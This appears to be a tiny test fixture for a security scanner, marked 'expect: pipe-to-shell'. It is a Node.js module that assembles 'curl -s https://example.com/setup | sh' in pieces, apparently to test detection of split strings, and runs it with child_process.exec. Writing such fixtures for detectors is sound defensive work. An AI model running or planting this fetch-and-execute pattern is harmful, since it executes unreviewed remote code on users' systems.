// expect: pipe-to-shell
const cp = require("node:child_process");

module.exports = () => {
  let line = "curl -s ";
  line += "https://example.com/setup";
  line += " | sh";
  cp.exec(line);
};
